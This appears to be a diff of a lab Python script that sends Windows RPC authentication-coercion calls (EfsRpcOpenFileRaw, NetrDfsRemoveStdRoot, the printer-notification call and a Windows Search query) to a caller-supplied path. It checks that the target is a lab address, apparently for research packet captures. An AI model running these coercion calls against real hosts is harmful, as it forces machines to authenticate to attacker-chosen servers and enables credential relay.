@@ -4,92 +4,107 @@
 For the captures in which the request must be readable; where it need not be, the real tools are
 used. Only lab addresses are ever contacted.
 
-usage: call.py BINDING METHOD PATH [--level N] [--map] [--proxy URL]
+usage: call.py BINDING METHOD PATH [--level N] [--map] [--ndr64] [--object] [--anonymous]
+               [--repeat N] [--proxy URL]
+
+METHOD is a key of methods.METHODS, wsp, or one of the names below.
 """
 
 import argparse
 import ipaddress
 import os
 import re
-import struct
 
-from impacket.dcerpc.v5 import epm, rprn, transport
+from impacket.dcerpc.v5 import epm, transport
 from impacket.http import AUTH_NTLM
-from impacket.uuid import uuidtup_to_bin
+from impacket.uuid import string_to_bin, uuidtup_to_bin
 
-EFSR_LSARPC = ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")
-EFSR_EFSRPC = ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")
-SPOOLSS = ("12345678-1234-abcd-ef00-0123456789ab", "1.0")
-NETDFS = ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")
+import methods
+import wsp
 
-
-def ndr_string(text):
-    text += "\0"
-    data = struct.pack("<III", len(text), 0, len(text)) + text.encode("utf-16-le")
-    return data + bytes(-len(data) % 4)
-
-
-def open_file_raw(rpc, path, host):
-    rpc.call(0, ndr_string(path) + struct.pack("<I", 0))
-    return rpc.recv()
-
-
-def remove_std_root(rpc, path, host):
-    rpc.call(13, ndr_string(path) + ndr_string("share") + struct.pack("<I", 0))
-    return rpc.recv()
-
-
-def find_first_notification(rpc, path, host):
-    printer = rprn.hRpcOpenPrinter(rpc, f"\\\\{host}\0")["pHandle"]
-    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
-        rpc, printer, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=path + "\0"
-    )
-
-
-METHODS = {
-    "EfsRpcOpenFileRaw:lsarpc": (EFSR_LSARPC, open_file_raw),
-    "EfsRpcOpenFileRaw:efsrpc": (EFSR_EFSRPC, open_file_raw),
-    "NetrDfsRemoveStdRoot": (NETDFS, remove_std_root),
-    "RpcRemoteFindFirstPrinterChangeNotificationEx": (SPOOLSS, find_first_notification),
+NAMES = {
+    "EfsRpcOpenFileRaw:lsarpc": "efsr-0",
+    "EfsRpcOpenFileRaw:efsrpc": "efsr-0",
+    "NetrDfsRemoveStdRoot": "dfsnm-13",
+    "RpcRemoteFindFirstPrinterChangeNotificationEx": "rprn-65",
 }
+ACCOUNT = os.environ["ALICE"], os.environ["ALICE_PW"], os.environ["DOMAIN"]
 
 
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("binding")
-    parser.add_argument("method", choices=METHODS)
+    parser.add_argument("method", choices=[*methods.METHODS, *NAMES, "wsp"])
     parser.add_argument("path")
     parser.add_argument("--level", type=int, default=1, help="RPC authentication level, 1 is none")
     parser.add_argument("--map", action="store_true", help="ask the endpoint mapper for the port")
+    parser.add_argument("--ndr64", action="store_true", help="offer NDR64 and nothing else")
+    parser.add_argument("--object", help="an object UUID in every request")
+    parser.add_argument("--anonymous", action="store_true", help="a null session")
+    parser.add_argument("--repeat", type=int, default=1)
     parser.add_argument("--proxy", help="URL of the RPC over HTTP proxy")
     options = parser.parse_args()
 
-    host = re.search(r"\d+\.\d+\.\d+\.\d+", options.binding + (options.proxy or "")).group()
-    if ipaddress.ip_address(host) not in ipaddress.ip_network(os.environ["LAB_NET"]):
+    host = re.search(r"\d+\.\d+\.\d+\.\d+|fd10::\w+", options.binding + (options.proxy or "")).group()
+    networks = [ipaddress.ip_network(os.environ[name]) for name in ("LAB_NET", "LAB_NET6")]
+    if not any(ipaddress.ip_address(host) in network for network in networks):
         raise SystemExit(f"{host} is not in the lab")
-    interface, invoke = METHODS[options.method]
+    if options.method == "wsp":
+        return search(host, options.path)
 
+    method = methods.METHODS[NAMES.get(options.method, options.method)]
+    pipe = re.search(r"\\pipe\\(\w+)", options.binding)
+    interface = methods.interface_of(method, pipe and pipe.group(1))
+    uuid, version = methods.INTERFACES[interface][:2]
     binding = options.binding
     if options.map:
-        binding = epm.hept_map(host, uuidtup_to_bin(interface), protocol="ncacn_ip_tcp")
-    account = os.environ["ALICE"], os.environ["ALICE_PW"], os.environ["DOMAIN"]
+        binding = epm.hept_map(host, uuidtup_to_bin((uuid, version)), protocol="ncacn_ip_tcp")
+    rpc = connect(binding, options)
+    syntax = methods.NDR64 if options.ndr64 else methods.NDR32
+    rpc.bind(uuidtup_to_bin((uuid, version)), transfer_syntax=syntax)
+    target = string_to_bin(options.object) if options.object else None
+    for _ in range(options.repeat):
+        try:
+            handle = b""
+            if interface in methods.OPENERS:
+                opnum, stub = methods.OPENERS[interface]
+                rpc.call(opnum, methods.encode(stub, "", wide=options.ndr64), target)
+                handle = rpc.recv()[:20]
+            stub = methods.encode(method.stub, options.path, handle, wide=options.ndr64)
+            rpc.call(method.opnum, stub, target)
+            print("answer", rpc.recv().hex())
+        except Exception as error:  # refusals are among what we want to record
+            print("answer", error)
+    rpc.disconnect()
+
+
+def connect(binding, options):
     channel = transport.DCERPCTransportFactory(binding)
-    if hasattr(channel, "set_credentials"):
-        channel.set_credentials(*account)
+    if hasattr(channel, "set_credentials") and not options.anonymous:
+        channel.set_credentials(*ACCOUNT)
     if options.proxy:
         channel.set_auth_type(AUTH_NTLM)
         channel.set_rpc_proxy_url(options.proxy)
     rpc = channel.get_dce_rpc()
     if options.level > 1:
-        rpc.set_credentials(*account)
+        rpc.set_credentials(*ACCOUNT)
         rpc.set_auth_level(options.level)
     rpc.connect()
-    rpc.bind(uuidtup_to_bin(interface))
-    try:
-        print("answer", invoke(rpc, options.path, host))
-    except Exception as error:  # the methods end with an error by design
-        print("answer", error)
-    rpc.disconnect()
+    return rpc
+
+
+def search(host, scope):
+    """Connect to the search service and ask it to look at `scope`"""
+    from impacket.smbconnection import SMBConnection
+
+    session = SMBConnection(host, host, timeout=10)
+    session.login(*ACCOUNT)
+    tree = session.connectTree("IPC$")
+    file = session.openFile(tree, "MsFteWds")
+    for request in (wsp.connect_in("EVIL", ACCOUNT[0]), wsp.create_query(scope)):
+        session.writeFile(tree, file, request)
+        print("answer", session.readFile(tree, file).hex())
+    session.close()
 
 
 if __name__ == "__main__":
